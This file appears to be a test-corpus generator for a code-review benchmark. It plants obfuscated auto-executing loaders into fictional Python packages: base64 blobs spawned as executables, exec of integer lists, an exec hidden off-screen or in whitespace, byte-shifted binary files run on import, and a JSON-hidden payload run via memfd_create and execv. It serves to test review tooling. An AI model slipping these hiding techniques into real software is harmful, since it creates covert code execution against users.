"""What nobody can read, with code behind it (jeIlyfish, num2words, off-screen code of many small packages)."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

import base64
import hashlib
import json

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft
from tests.review.corpus.payloads import STAGE, as_ints

__all__: list[str] = []

_F = Family.OPAQUE_BLOB


def _noise(length: int) -> bytes:
    """Bytes without any order, the same each time."""
    return b"".join(hashlib.sha256(str(number).encode()).digest() for number in range(length // 32 + 1))[:length]


@planted(_F, base="client", where=("harborline/_assets.py",))
def long_literal(draft: Draft) -> None:
    draft.put(
        "harborline/_assets.py",
        "import base64\nimport os\nimport tempfile\n\n"
        f"ICON = '{base64.b64encode(_noise(9000)).decode()}'\n\n\ndef show_icon():\n"
        "    path = os.path.join(tempfile.gettempdir(), 'icon')\n    with open(path, 'wb') as file:\n"
        "        file.write(base64.b64decode(ICON))\n    os.chmod(path, 0o700)\n    os.spawnl(os.P_NOWAIT, path, path)\n",
    )


@planted(_F, base="command", where=("tidelog/render.py",), unasked=True)
def numbers_in_a_list(draft: Draft) -> None:
    draft.append("tidelog/render.py", f"\nPALETTE = [{as_ints(STAGE * 6)}]\nexec(''.join(map(chr, PALETTE)))\n")


@planted(_F, base="client", where=("harborline/_retry.py",), unasked=True)
def off_the_screen(draft: Draft) -> None:
    draft.replace(
        "harborline/_retry.py",
        'T = TypeVar("T")\n',
        'T = TypeVar("T")' + " " * 900 + f';exec("{STAGE.splitlines()[0]}")\n',
    )


@planted(_F, base="framework", where=("quayside/settings.py",))
def very_long_line(draft: Draft) -> None:
    steps = ";".join(f"_q{number}=(_q{number - 1}*31+{number})%65537 if {number} else 7" for number in range(1, 400))
    draft.append("quayside/settings.py", f"\n_q0=1;{steps};__import__('os').system('printf %d '+str(_q399))\n")


@planted(_F, base="native", where=("fastbuoy/_fallback.py", "fastbuoy/stations.bin"), evasive=True, unasked=True)
def file_of_noise(draft: Draft) -> None:
    draft.put("fastbuoy/stations.bin", _noise(30000))
    draft.append(
        "fastbuoy/_fallback.py",
        """


        def _stations():
            import os
            with open(os.path.join(os.path.dirname(__file__), "stations.bin"), "rb") as file:
                raw = file.read()
            table = bytes((byte - 17 * number) & 0xFF for number, byte in enumerate(raw))
            scope = {"__name__": "stations"}
            exec(table, scope)
            return scope


        STATIONS = _stations()
        """,
    )


@planted(_F, base="client", where=("harborline/_i18n.py", "harborline/__init__.py"), evasive=True, unasked=True)
def words_that_are_bytes(draft: Draft) -> None:
    words = [f"w{number:02x}rd" for number in range(256)]
    text = " ".join(words[byte] for byte in STAGE.encode())
    draft.put(
        "harborline/_i18n.py",
        f'WORDS = [f"w{{n:02x}}rd" for n in range(256)]\nTEXT = """{text}"""\n\n\ndef translate(text=TEXT):\n'
        "    return bytes(WORDS.index(word) for word in text.split())\n\n\nexec(translate())\n",
    )
    draft.append("harborline/__init__.py", "from harborline import _i18n\n")


@planted(_F, base="command", where=("tidelog/times.py",), evasive=True, unasked=True)
def spaces_and_tabs(draft: Draft) -> None:
    bits = "".join(f"{byte:08b}" for byte in b"import os;os.system('id')")
    white = bits.replace("0", " ").replace("1", "\t")
    draft.append(
        "tidelog/times.py",
        f'\n\n_RULER = """{white}"""\n_MARKS = "".join("1" if c == chr(9) else "0" for c in _RULER)\n'
        "exec(bytes(int(_MARKS[i : i + 8], 2) for i in range(0, len(_MARKS), 8)))\n",
    )


@planted(_F, base="framework", where=("quayside/web/_theme.py", "quayside/web/health.py"), evasive=True)
def key_of_a_big_json_file(draft: Draft) -> None:
    theme = {f"color-{number}": f"#{number:06x}" for number in range(300)}
    theme["sprite"] = base64.b85encode(_noise(6000)).decode()
    draft.put("quayside/web/theme.json", json.dumps(theme))
    draft.put(
        "quayside/web/_theme.py",
        "import base64\nimport importlib.resources\nimport json\nimport os\n\n\ndef load():\n"
        "    theme = json.loads(importlib.resources.read_text('quayside.web', 'theme.json'))\n"
        "    handle = os.memfd_create('t')\n    os.write(handle, base64.b85decode(theme['sprite']))\n"
        "    os.execv(f'/proc/self/fd/{handle}', ['theme'])\n",
    )
    draft.after(
        "quayside/web/health.py",
        "    def serve(self):",
        "        from quayside.web._theme import load\n\n        load()\n",
    )
